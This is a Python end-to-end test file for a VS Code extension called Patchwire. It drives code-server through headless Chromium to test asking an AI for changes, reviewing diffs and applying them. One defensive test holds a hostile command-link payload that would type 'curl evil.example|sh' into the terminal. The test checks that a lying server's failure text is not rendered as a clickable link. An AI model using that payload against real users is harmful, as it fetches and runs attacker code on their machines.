"""The VS Code extension in a real VS Code: code-server (VS Code in the browser, installed by
tests/install_code_server.sh) with the built .vsix installed, a project wired to the real agent
with the stand-in AI, driven through headless Chromium by selenium: "Patchwire: Ask..." from
the command palette, the progress notification, the output channel, the multi-file diff, Apply,
and the file on disk; then "Ask with Several Attempts...", attempt 2 from the attempts' quick
pick, and "Apply one file from attempt 2" (one file of that attempt's two, the bytes on disk).
Screenshots go to tests/artifacts/ (docs/ keeps a copy for the README).

Skipped only when code-server cannot be installed for lack of network, and then loudly.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
import warnings
from pathlib import Path

import pytest

from conftest import ROOT, TESTS, Laptop, make_repo, script

# where tests/install_code_server.sh puts it (read before the tests' own HOME is set)
CODE_SERVER_DIR = Path(os.environ.get("PATCHWIRE_CODE_SERVER_DIR")
                       or Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "patchwire-tests" / "code-server")
CODE_SERVER = CODE_SERVER_DIR / "bin" / "code-server"
ARTIFACTS = TESTS / "artifacts"
PROMPT_TEXT = "Greet in French"
# A change in the middle of the file, so the diff shows below the review quick pick.
OLD_APP = "".join(f"# line {i}\n" for i in range(1, 9)) + "print('hello')\n" + "".join(f"# line {i}\n" for i in range(10, 13))
NEW_APP = OLD_APP.replace("print('hello')", "print('bonjour')")
# Two attempts, each changing src/app.py and adding GUIDE.md its own way: the prompt is one line
# (an input box), the stand-in's script line itself.
SALUT_APP = NEW_APP.replace("print('bonjour')", "print('salut')")
ATTEMPTS_PROMPT = "#pw-script " + json.dumps([{"by_attempt": {
    "1": [{"write": "src/app.py", "text": NEW_APP.replace("print('bonjour')", "print('coucou')")},
          {"write": "GUIDE.md", "text": "one\n"}],
    "2": [{"write": "src/app.py", "text": SALUT_APP}, {"write": "GUIDE.md", "text": "two\n"}]}}])
# Network stays on loopback: no marketplace, no update checks, no telemetry.
SETTINGS = {
    "security.workspace.trust.enabled": False,
    "workbench.startupEditor": "none",
    "workbench.tips.enabled": False,
    "workbench.enableExperiments": False,
    "telemetry.telemetryLevel": "off",
    "update.mode": "none",
    "extensions.autoCheckUpdates": False,
    "extensions.autoUpdate": False,
    "extensions.ignoreRecommendations": True,
    "chat.disableAIFeatures": True,
    "patchwire.statusRefreshSeconds": 0,
}
CHROMIUM_FLAGS = ("--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run",
                  "--disable-dev-shm-usage", "--window-size=1400,1000")


def install_code_server(installer: Path = TESTS / "install_code_server.sh", env=None) -> None:
    """Install (or find installed) code-server; skip, loudly, only when there is no network."""
    env = {"PATCHWIRE_CODE_SERVER_DIR": str(CODE_SERVER_DIR), **(env or os.environ)}
    proc = subprocess.run(["bash", str(installer)], capture_output=True, text=True, timeout=900, env=env)
    if proc.returncode == 3:
        message = ("NO NETWORK: code-server could not be installed from the npm registry, so the "
                   "VS Code end-to-end test did NOT run:\n" + proc.stderr[-2000:])
        print("\n" + "!" * 78 + "\n" + message + "\n" + "!" * 78, file=sys.stderr)
        warnings.warn(message, stacklevel=2)
        pytest.skip(message)
    assert proc.returncode == 0, f"install_code_server.sh failed:\n{proc.stdout}{proc.stderr}"


class CodeServer:
    """code-server on 127.0.0.1:0 with a user-data and an extensions folder of its own."""

    def __init__(self, workdir: Path, settings: dict, machine_settings: dict):
        self.workdir = workdir
        self.user = workdir / "user"
        self.extensions = workdir / "extensions"
        # User/ holds the browser's settings; Machine/ the server's, where VS Code reads
        # machine-scoped settings such as patchwire.path in a remote window like this one.
        for folder, values in (("User", settings), ("Machine", machine_settings)):
            (self.user / folder).mkdir(parents=True)
            (self.user / folder / "settings.json").write_text(json.dumps(values, indent=1))
        self.env = {**os.environ, "EXTENSIONS_GALLERY": json.dumps({"serviceUrl": "http://127.0.0.1:9/"})}
        self.proc = None
        self.url = ""

    def argv(self, *args: str) -> list:
        return [str(CODE_SERVER), "--config", str(self.workdir / "config.yaml"), "--auth", "none",
                "--disable-telemetry", "--disable-update-check", "--user-data-dir", str(self.user),
                "--extensions-dir", str(self.extensions), *args]

    def install(self, vsix: Path) -> str:
        proc = subprocess.run(self.argv("--install-extension", str(vsix)), env=self.env,
                              capture_output=True, text=True, timeout=120)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        return proc.stdout

    def start(self, folder: Path) -> "CodeServer":
        self.log = self.workdir / "code-server.log"
        self.proc = subprocess.Popen(self.argv("--bind-addr", "127.0.0.1:0", str(folder)), env=self.env,
                                     stdout=open(self.log, "wb"), stderr=subprocess.STDOUT,
                                     start_new_session=True)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and self.proc.poll() is None:
            for line in self.log.read_text(errors="replace").splitlines():
                if "HTTP server listening on " in line:
                    self.url = line.split("HTTP server listening on ")[1].strip().rstrip("/")
                    return self
            time.sleep(0.1)
        raise AssertionError("code-server did not start:\n" + self.log.read_text(errors="replace"))

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait()


class Workbench:
    """The VS Code workbench in headless Chromium, driven with the keyboard like a user."""

    def __init__(self, driver):
        from selenium.webdriver.common.by import By
        from selenium.webdriver.common.keys import Keys
        self.driver, self.By, self.Keys = driver, By, Keys

    def wait(self, what: str, condition, timeout: float = 60):
        """Poll `condition` until it returns something truthy; on timeout, a screenshot."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                found = condition()
            except Exception:  # the DOM changes under us: stale elements, not yet there
                found = None
            if found:
                return found
            time.sleep(0.2)
        self.shot("timeout.png")
        raise AssertionError(f"timed out after {timeout:g} s waiting for {what}")

    def text(self, css: str) -> str:
        return "\n".join(e.text for e in self.driver.find_elements(self.By.CSS_SELECTOR, css))

    def keys(self, *keys: str) -> None:
        from selenium.webdriver.common.action_chains import ActionChains
        ActionChains(self.driver).send_keys(*keys).perform()

    def command(self, title: str) -> None:
        """Run a command from the command palette, as a user does: F1 (which types the ">"), its
        title, arrow down to it ("Ask..." and "Ask Follow-up..." are close), Enter."""
        self.keys(self.Keys.F1)
        self.wait("the command palette", lambda: self.driver.find_element(
            self.By.CSS_SELECTOR, ".quick-input-widget input").is_displayed())
        self.keys(title)
        self.wait(f"{title!r} in the palette", lambda: title in self.rows())
        for _ in range(10):
            if self.focused_row() == title:
                break
            self.keys(self.Keys.DOWN)
        assert self.focused_row() == title, self.rows()
        self.keys(self.Keys.ENTER)

    def chord(self, modifier: str, key: str) -> None:
        from selenium.webdriver.common.action_chains import ActionChains
        ActionChains(self.driver).key_down(modifier).send_keys(key).key_up(modifier).perform()

    def rows(self) -> list:
        return [row.text.split("\n")[0] for row in self.driver.find_elements(
            self.By.CSS_SELECTOR, ".quick-input-list .monaco-list-row")]

    def focused_row(self) -> str:
        return self.text(".quick-input-list .monaco-list-row.focused").split("\n")[0]

    def shot(self, name: str) -> Path:
        ARTIFACTS.mkdir(exist_ok=True)
        path = ARTIFACTS / name
        self.driver.save_screenshot(str(path))
        return path


@pytest.fixture
def browser():
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    options = webdriver.ChromeOptions()
    options.binary_location = shutil.which("chromium") or "/usr/bin/chromium"
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    options.add_argument("--user-data-dir=" + str(Path(os.environ["HOME"]) / "chromium-profile"))
    service = Service(executable_path=shutil.which("chromedriver") or "/usr/bin/chromedriver")
    driver = webdriver.Chrome(options=options, service=service)
    try:
        yield driver
    finally:
        driver.quit()


# The user's own HOME, read when the module is collected (the tests then get one of their own):
# the installer needs its npm config, as .ci/run's call has (this machine's says where Node's
# headers are, for the native modules VS Code builds).
USER_HOME = os.environ.get("HOME", "")


def installed_extension(tmp_path: Path) -> Path:
    """code-server installed, and the extension packaged as a .vsix."""
    install_code_server(env={**os.environ, "HOME": USER_HOME})
    vsix = tmp_path / "patchwire-vscode.vsix"
    subprocess.run(["bash", str(ROOT / "editors" / "vscode" / "package.sh"), str(vsix)], check=True,
                   capture_output=True, timeout=300)
    return vsix


def patchwire_program(tmp_path: Path) -> Path:
    program = tmp_path / "bin" / "patchwire"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\nexec {sys.executable} {ROOT / 'patchwire.py'} \"$@\"\n")
    program.chmod(0o755)
    return program


def test_ask_review_apply_in_a_real_vs_code(tmp_path, agent, browser):
    vsix = installed_extension(tmp_path)
    task = script({"say": "Reading src/app.py"}, {"sleep": 4}, {"write": "src/app.py", "text": NEW_APP},
                  {"say": "Changed the greeting to French."}, text="").strip()
    root = make_repo(tmp_path / "greeter", {"README.md": b"# greeter\n", "src/app.py": OLD_APP.encode(),
                                             "TASK.md": task.encode() + b"\n"})
    Laptop(root).init(agent)
    program = patchwire_program(tmp_path)

    server = CodeServer(tmp_path / "vscode", SETTINGS, {"patchwire.path": str(program)})
    assert "was successfully installed" in server.install(vsix)
    server.start(root)
    try:
        drive_the_loop(Workbench(browser), server, root)
    finally:
        server.stop()


def drive_the_loop(wb: Workbench, server: CodeServer, root: Path) -> None:
    wb.driver.get(f"{server.url}/?folder={root}")
    # The extension activates on the folder's .patchwire.toml; its status bar item asks the agent.
    wb.wait("the Patchwire status bar item", lambda: "Patchwire" in wb.text(".statusbar"), timeout=90)

    # The stand-in AI's script rides in the prompt as the selected text of TASK.md (an input box
    # has one line; the selection goes with the prompt as context, on lines of its own).
    wb.keys(wb.Keys.F1)
    wb.wait("the command palette", lambda: wb.driver.find_element(wb.By.CSS_SELECTOR, ".quick-input-widget input").is_displayed())
    wb.keys(wb.Keys.BACKSPACE, "TASK.md")  # quick open: the palette without ">"
    wb.wait("TASK.md in quick open", lambda: wb.focused_row().startswith("TASK.md"))
    wb.keys(wb.Keys.ENTER)
    wb.wait("TASK.md open", lambda: "#pw-script" in wb.text(".editor-container"))
    wb.chord(wb.Keys.CONTROL, "a")

    wb.command("Patchwire: Ask...")
    wb.wait("the prompt box", lambda: "What should the AI do?" in wb.text(".quick-input-widget"))
    wb.keys(PROMPT_TEXT, wb.Keys.ENTER)
    wb.wait("the context choice", lambda: "Add the selection" in wb.text(".quick-input-widget"))
    for _ in range(5):
        if wb.focused_row().startswith("Add the selection"):
            break
        wb.keys(wb.Keys.DOWN)
    wb.keys(wb.Keys.ENTER)

    # The cancellable progress notification while the AI runs, and the output channel filling.
    wb.wait("the progress notification", lambda: "Patchwire: running: Reading src/app.py" in wb.text(".notifications-toasts"))
    assert "Cancel" in wb.text(".notifications-toasts")
    wb.wait("the status bar counting the job", lambda: "Patchwire: 1 running" in wb.text(".statusbar"))
    wb.shot("vscode-progress.png")
    wb.wait("the AI's text in the output channel", lambda: "Reading src/app.py" in wb.text(".part.panel"))
    wb.wait("the tool use in the output channel", lambda: "> Write src/app.py" in wb.text(".part.panel"))
    wb.wait("the end in the output channel", lambda: "AI finished: 1 file(s), +1 -1" in wb.text(".part.panel"))

    # The multi-file diff (synced on the left, proposed on the right) and the review quick pick.
    wb.wait("both sides in the diff", lambda: "print('bonjour')" in wb.text(".editor-container")
            and "print('hello')" in wb.text(".editor-container"))
    wb.wait("the review quick pick", lambda: "Apply all 1 file" in wb.text(".quick-input-widget"))
    assert "Keep for later" in wb.text(".quick-input-widget")
    wb.shot("vscode-diff.png")
    assert (root / "src" / "app.py").read_text() == OLD_APP  # nothing applied before the choice

    wb.keys(wb.Keys.ENTER)  # "Apply all 1 file" is the first item
    wb.wait("the applied notification", lambda: "applied job" in wb.text(".notifications-toasts"))
    assert (root / "src" / "app.py").read_text() == NEW_APP
    for name in ("vscode-progress.png", "vscode-diff.png"):
        assert (ARTIFACTS / name).read_bytes().startswith(b"\x89PNG")
    drive_two_attempts(wb, root)


def choose_row(wb: Workbench, starting: str) -> None:
    """Arrow down the open quick pick to the row whose label contains `starting`, then Enter."""
    wb.wait(f"{starting!r} in the quick pick", lambda: any(starting in row for row in wb.rows()))
    for _ in range(12):
        if starting in wb.focused_row():
            break
        wb.keys(wb.Keys.DOWN)
    assert starting in wb.focused_row(), wb.rows()
    wb.keys(wb.Keys.ENTER)


def drive_two_attempts(wb: Workbench, root: Path) -> None:
    """Two attempts of one prompt; from the second, one file of its two, applied alone."""
    wb.keys(wb.Keys.ESCAPE)
    wb.command("Patchwire: Ask with Several Attempts...")
    wb.wait("the prompt box", lambda: "Each attempt works on the same files" in wb.text(".quick-input-widget"))
    wb.keys(ATTEMPTS_PROMPT, wb.Keys.ENTER)
    choose_row(wb, "2 attempts")
    wb.wait("the attempts' quick pick", lambda: "The attempt to review and apply" in wb.driver.find_element(
        wb.By.CSS_SELECTOR, ".quick-input-widget input").get_attribute("placeholder"), timeout=120)
    choose_row(wb, "Attempt 2")
    wb.wait("attempt 2's diff", lambda: "print('salut')" in wb.text(".editor-container"))
    choose_row(wb, "Apply one file from attempt 2...")
    choose_row(wb, "src/app.py")
    wb.wait("the applied notification", lambda: "applied job" in wb.text(".notifications-toasts")
            and "the rest stays in the job" in wb.text(".notifications-toasts"))
    wb.shot("vscode-attempt-file.png")
    assert (root / "src" / "app.py").read_bytes() == SALUT_APP.encode()
    assert not (root / "GUIDE.md").exists()  # attempt 2's other file stays in its job


# A failure reason as a lying box words it: VS Code draws [label](command:ID?ARGS) in a
# notification as a link that runs the command on a click (here: type into the terminal).
COMMAND_LINK = ('[Open the settings](command:workbench.action.terminal.sendSequence?'
                '%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D "Fix it")')


def test_a_failure_reason_from_the_box_is_no_link_in_a_vs_code_notification(tmp_path, browser):
    from fake_box import FakeBox, answer
    vsix = installed_extension(tmp_path)
    root = make_repo(tmp_path / "greeter", {"README.md": b"# greeter\n", ".gitignore": b".pwtoken\n"})
    (root / ".pwtoken").write_text("pw_fake\n")
    (root / ".pwtoken").chmod(0o600)
    box = FakeBox(tmp_path / "mirror")
    events = [{"type": "queued", "position": 0}, {"type": "started"},
              {"type": "failed", "status": "failed", "reason": "the AI gave up: " + COMMAND_LINK}]
    box.lie("POST /v1/ask", answer(b"".join(json.dumps({"seq": n + 1, "job": "abc123", **e}).encode() + b"\n"
                                            for n, e in enumerate(events)), kind="application/x-ndjson"))
    Laptop(root).run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
    server = CodeServer(tmp_path / "vscode", SETTINGS, {"patchwire.path": str(patchwire_program(tmp_path))})
    assert "was successfully installed" in server.install(vsix)
    server.start(root)
    try:
        wb = Workbench(browser)
        wb.driver.get(f"{server.url}/?folder={root}")
        wb.wait("the Patchwire status bar item", lambda: "Patchwire" in wb.text(".statusbar"), timeout=90)
        wb.command("Patchwire: Ask...")
        wb.wait("the prompt box", lambda: "What should the AI do?" in wb.text(".quick-input-widget"))
        wb.keys("anything", wb.Keys.ENTER)
        wb.wait("the failure notification", lambda: "the AI gave up" in wb.text(".notifications-toasts"))
        shown = wb.text(".notifications-toasts")
        wb.shot("vscode-hostile-reason.png")
        assert "[Open the settings] (command:workbench.action.terminal.sendSequence" in shown, shown
        # a link in a notification's message is an <a> there (its buttons sit apart, below)
        links = wb.driver.find_elements(wb.By.CSS_SELECTOR, ".notifications-toasts .notification-list-item-message a")
        assert not [(a.text, a.get_attribute("href")) for a in links], "the box's text became a link"
    finally:
        server.stop()
        box.close()
